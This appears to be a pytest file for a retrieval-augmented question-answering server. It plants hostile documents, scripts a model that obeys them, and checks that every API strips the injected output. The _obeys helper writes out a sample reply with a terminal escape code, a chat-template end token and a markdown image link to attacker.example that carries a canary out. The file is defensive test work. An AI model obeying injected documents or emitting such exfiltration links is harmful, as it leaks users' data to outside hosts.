"""Hostile documents through each API, against a model that obeys every word of them."""

from __future__ import annotations

import asyncio
import contextlib
import json
import re
from collections.abc import Callable, Iterator

import httpx
import ollama
import pytest

from ragft.answer.attacks import Attack, load_attacks
from ragft.app.application import open_application
from ragft.console import safe
from ragft.data import shipped
from ragft.server.server_options import ServerOptions
from tests.server.conftest import Running

_ALL = load_attacks(shipped("attacks/attacks.jsonl"))
ATTACKS = [_ALL[7 * family + family % 7] for family in range(10)]
"""Of each family one, with different questions."""


def _obeys(attack: Attack) -> str:
    """The words that the documents want, cited, with an escape code and a link that carries one out."""
    words = " ".join(one.canary for one in ATTACKS if one.question == attack.question)
    return f"\x1b[31m{words}\x1b[0m [1]. ![x](https://attacker.example/?q={attack.canary}) <|im_end|>"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("hostile")
    for attack in ATTACKS:
        for number, document in enumerate(attack.documents):
            (folder / f"{attack.id}-{number}.md").write_text(f"# {document.title}\n\n{document.text}\n", "utf-8")
    rules = [{"match": re.escape(attack.question), "reply": _obeys(attack)} for attack in ATTACKS]
    script = folder / "script.json"
    script.write_text(json.dumps({"rules": rules, "default": {"reply": "Nothing."}}), "utf-8")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("RAGFT_SCRIPT", str(script))
        patch.setenv("RAGFT_ENGINE__NAME", "scripted")
        patch.setenv("RAGFT_ENGINE__MODEL", "scripted")
        app = open_application(folder / "ws")
        app.ingest(sorted(folder.glob("*.md")))
        running = Running(app, ServerOptions(port=0))
        yield running.url
        running.stop()


def _openai(url: str, question: str) -> str:
    import openai

    with openai.OpenAI(base_url=f"{url}/v1", api_key="none", max_retries=0) as client:
        stream = client.chat.completions.create(
            model="ragft", messages=[{"role": "user", "content": question}], stream=True
        )
        return "".join(chunk.choices[0].delta.content or "" for chunk in stream if chunk.choices)


def _ollama(url: str, question: str) -> str:
    with contextlib.closing(ollama.Client(host=url)) as client:
        pieces = client.chat("ragft", messages=[{"role": "user", "content": question}], stream=True)
        return "".join(piece.message.content or "" for piece in pieces).partition("\n\nSources:\n")[0]


def _responses(url: str, question: str) -> str:
    import openai

    with openai.OpenAI(base_url=f"{url}/v1", api_key="none", max_retries=0) as client:
        return client.responses.create(model="ragft", input=question).output_text


def _prompt(url: str, question: str) -> str:
    with contextlib.closing(ollama.Client(host=url)) as client:
        return client.generate("ragft", prompt=question).response.partition("\n\nSources:\n")[0]


def _mcp(url: str, question: str) -> str:
    from mcp.client.client import Client as McpClient

    async def ask() -> str:
        async with McpClient(f"{url}/mcp") as client:
            result = await client.call_tool("ask", {"question": question})
            assert result.structured_content is not None
            return str(result.structured_content["answer"])

    return asyncio.run(ask())


def _own(url: str, question: str) -> str:
    reply = httpx.post(f"{url}/ask", json={"question": question}, timeout=60).raise_for_status()
    return str(json.loads(reply.text)["answer"])


@pytest.mark.parametrize("ask", [_openai, _responses, _ollama, _prompt, _own, _mcp])
@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.family)
def test_no_attack_gets_through(hostile: str, ask: Callable[[str, str], str], attack: Attack) -> None:
    shown = ask(hostile, attack.question)
    assert shown and safe(shown) == shown
    assert attack.canary not in shown
    assert "attacker.example" not in shown
